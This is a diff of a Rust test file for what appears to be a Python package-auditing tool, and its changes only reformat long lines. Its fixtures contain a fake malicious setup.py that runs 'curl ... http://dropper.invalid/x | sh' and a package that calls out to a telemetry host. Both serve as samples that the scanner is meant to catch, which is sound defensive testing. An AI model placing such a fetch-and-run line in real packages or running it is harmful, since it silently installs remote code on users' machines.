@@ -124,7 +124,8 @@ fn other_bytes_than_the_locked_ones_are_a_finding() {
 
 #[test]
 fn of_a_source_distribution_the_build_is_judged() {
-    let setup = "import os\nos.system('curl -s http://dropper.invalid/x | sh')\nfrom setuptools import setup\nsetup()\n";
+    let setup =
+        "import os\nos.system('curl -s http://dropper.invalid/x | sh')\nfrom setuptools import setup\nsetup()\n";
     let sdist = || PyPkg::new("tool", "1.0").file("tool/__init__.py", ADD).file("setup.py", setup).sdist_only();
     // What only wheels have makes no wheel of it.
     let disguised = sdist().file("tool-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tool\nVersion: 1.0\n");
@@ -175,7 +176,9 @@ fn a_version_without_hashes_is_asked_for_and_else_listed() {
 
 /// A project that has locked this release with Poetry, from `source`.
 fn poetry(pkg: &PyPkg, source: &str) -> ProjectBuilder {
-    let file = |(name, bytes): (String, Vec<u8>)| format!("    {{file = \"{name}\", hash = \"sha256:{}\"}},\n", sha256(&bytes));
+    let file = |(name, bytes): (String, Vec<u8>)| {
+        format!("    {{file = \"{name}\", hash = \"sha256:{}\"}},\n", sha256(&bytes))
+    };
     let files: String = pkg.artifacts().into_iter().map(file).collect();
     let lock = format!(
         "[[package]]\nname = \"tool\"\nversion = \"1.0\"\ndescription = \"\"\noptional = false\npython-versions = \">=3.9\"\n\
@@ -183,7 +186,8 @@ fn poetry(pkg: &PyPkg, source: &str) -> ProjectBuilder {
          content-hash = \"{}\"\n",
         "0".repeat(64)
     );
-    let manifest = "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"tool==1.0\"]\n";
+    let manifest =
+        "[project]\nname = \"app\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [\"tool==1.0\"]\n";
     bare().file("pyproject.toml", manifest).file("poetry.lock", lock)
 }
 
@@ -251,7 +255,8 @@ fn what_is_installed_is_judged_by_its_files_and_not_fetched() {
 
 #[test]
 fn the_lock_of_behaviour_has_what_a_locked_release_can_do() {
-    let sends = PyPkg::new("tool", "1.0").file("tool/__init__.py", "import urllib.request\nurllib.request.urlopen('https://telemetry.invalid/v1')\n");
+    let sends = PyPkg::new("tool", "1.0")
+        .file("tool/__init__.py", "import urllib.request\nurllib.request.urlopen('https://telemetry.invalid/v1')\n");
     let index = index(sends.clone());
     let project = uv(&sends, &files_of(&index)).build();
     let lock = vetch(&["lock"]).dir(project.root()).home(project.home()).env("UV_DEFAULT_INDEX", index.url());
